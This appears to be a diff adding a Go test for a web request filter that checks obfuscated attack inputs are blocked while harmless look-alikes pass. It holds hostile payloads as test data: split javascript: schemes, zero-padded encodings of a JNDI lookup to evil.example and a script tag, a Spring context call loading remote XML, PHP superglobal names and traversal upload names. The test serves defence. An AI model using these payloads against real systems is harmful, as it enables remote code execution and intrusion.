@@ -1,0 +1,85 @@
+package filter
+
+import (
+	"net/http"
+	"net/url"
+	"testing"
+)
+
+// Attack grammars that hide in how a value is written or where it sits:
+// a script scheme split by control characters, numeric references padded
+// with zeros, PHP superglobals as parameter names, Spring's XML contexts
+// handed a URL, and a traversal in an uploaded file's name; each with the
+// look-alikes that share its words.
+func TestGrammarObfuscation(t *testing.T) {
+	eng, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	values := []struct {
+		v       string
+		blocked bool
+	}{
+		// Script schemes split by what browsers drop from a scheme.
+		{"ja&Tab;vascript:", true},
+		{"ja\tvascript: ", true},
+		{"java&NewLine;script&colon;", true},
+		{"v&newline;b&tab;script&colon;:", true},
+		{"java\x0bscript:x", true},
+		{"JavaScript: The Good Parts", false},
+		{"java script: a language", false},
+		{"I learned javascript:\tit is fun", false},
+		// Numeric character references padded with zeros.
+		{"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.example/a}", true},
+		{"&#000000000000000000000000000000000060;script>alert(1)&#0000000000000000000000000000000062;/script>", true},
+		{"ticket &#00000000000000000000042; closed", false},
+		// Spring's XML application contexts given a URL to load.
+		{"com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://203.0.113.5/wb.xml')", true},
+		{"org.springframework.context.support.ClassPathXmlApplicationContext", true},
+		{`ApplicationContext ctx = new ClassPathXmlApplicationContext("beans.xml");`, false},
+		{"see org.springframework.context.support for the XML contexts", false},
+	}
+	for _, c := range values {
+		for _, place := range []string{"query", "form", "json"} {
+			expectBlocked(t, eng, place, "q", c.v, c.blocked)
+		}
+	}
+
+	names := []struct {
+		name    string
+		blocked bool
+	}{
+		{"$_COOKIE", true},
+		{"$_SERVER[DOCUMENT_ROOT]", true},
+		{"$GLOBALS", true},
+		{"$_session", true},
+		{"$price", false},
+		{"$_cookie_consent", false},
+		{"_COOKIE", false},
+		{"$top", false},
+	}
+	for _, c := range names {
+		q := url.Values{c.name: {"1"}}.Encode()
+		for _, r := range []*http.Request{
+			newReq("GET", "http://app.example.com/search?"+q, "", ""),
+			newReq("POST", "http://app.example.com/submit", "application/x-www-form-urlencoded", q),
+		} {
+			expectVerdict(t, eng, r, "parameter name "+c.name+" in "+r.Method, c.blocked)
+		}
+	}
+
+	files := []struct {
+		name    string
+		blocked bool
+	}{
+		{"../1.7z", true},
+		{`..\1.7z`, true},
+		{"..%2fshell.php", true},
+		{"report..final.pdf", false},
+		{"notes...txt", false},
+		{"photo.jpg", false},
+	}
+	for _, c := range files {
+		expectVerdict(t, eng, multipartUpload("file", c.name, "plain text"), "upload named "+c.name, c.blocked)
+	}
+}
